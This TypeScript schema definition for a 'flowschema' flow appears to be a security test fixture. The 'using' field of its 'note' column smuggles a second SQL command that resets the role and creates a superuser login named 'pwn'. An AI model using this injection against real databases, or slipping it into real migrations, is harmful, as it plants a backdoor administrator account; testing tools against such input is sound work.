import { defineFlow, sql } from 'flowschema';
export default defineFlow({
  key: 'f',
  domain: "sec-c18",
  version: "1.1.0",
  states: { a: { type: 'initial', transitions: { go: 'b' } }, b: { type: 'final' } },
  tables: {
    t: {
      columns: {
        id: { type: 'integer', primaryKey: true },
        note: { type: 'integer', optional: true, using: "note::integer; RESET ROLE; CREATE ROLE pwn SUPERUSER LOGIN PASSWORD 'x'" },
      },
    },
  },
  migrations: { '1.1.0': { allowDestructive: ['t.note'] } },
});
